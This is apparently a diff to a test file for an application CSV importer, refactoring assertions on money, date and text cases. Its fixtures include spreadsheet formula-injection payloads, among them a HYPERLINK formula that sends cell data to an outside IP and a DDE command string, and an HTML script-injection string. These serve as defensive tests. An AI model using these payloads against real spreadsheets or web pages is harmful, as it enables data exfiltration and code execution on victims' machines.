@@ -78,7 +78,9 @@ describe('money', () => {
 
   it('041-limit-rounding-down: odd cents are read to the cent', async () => {
     const { applications } = await readCase('041-limit-rounding-down');
-    expect(applications.map((application) => application.eligibleCost)).toEqual([10_000_001, 10_000_003]);
+    expect([...applications].map((application) => application.eligibleCost)).toEqual([
+      10_000_001, 10_000_003,
+    ]);
   });
 
   it('043-money-text: text is refused, each with the column and its own reason', async () => {
@@ -135,14 +137,17 @@ describe('dates', () => {
         if (before === undefined) delete process.env.TZ;
         else process.env.TZ = before;
       });
-      expect(applications.map((application) => application.receivedOn)).toEqual(['2026-07-01', '2026-07-01']);
+      expect([...applications].map((application) => application.receivedOn)).toEqual([
+        '2026-07-01',
+        '2026-07-01',
+      ]);
     },
   );
 
   it('052-date-dayfirst-column: one day-first date puts the others in doubt', async () => {
     const batch = await readCase('052-date-dayfirst-column');
     expect(errorsOf(batch)).toEqual(['2 S207 received_on', '3 S203 received_on']);
-    expect(batch.applications).toEqual([]);
+    expect(batch.applications).toHaveLength(0);
   });
 });
 
@@ -171,7 +176,7 @@ describe('places', () => {
 describe('text', () => {
   it('102-csv-injection-vs-numbers: names that begin like a formula are accepted unchanged', async () => {
     const { applications } = await readCase('102-csv-injection-vs-numbers');
-    expect(applications.map((application) => application.centerName)).toEqual([
+    expect([...applications].map((application) => application.centerName)).toEqual([
       '=HYPERLINK("http://203.0.113.9/?x="&A1,"open")',
       "-2+3+cmd|' /C calc'!A0",
       '@SUM(1+1)',
@@ -199,7 +204,7 @@ describe('text', () => {
 
   it('110-html-script: markup is text, and no id', async () => {
     const batch = await readCase('110-html-script');
-    expect(batch.applications.map(({ applicant, centerName }) => [applicant, centerName])).toEqual([
+    expect([...batch.applications].map(({ applicant, centerName }) => [applicant, centerName])).toEqual([
       ['O\'Neil & "Sons" <b>', '</script><img src=x onerror=alert(1)>'],
     ]);
     expect(errorsOf(batch)).toEqual(['3 S402 application_id']);
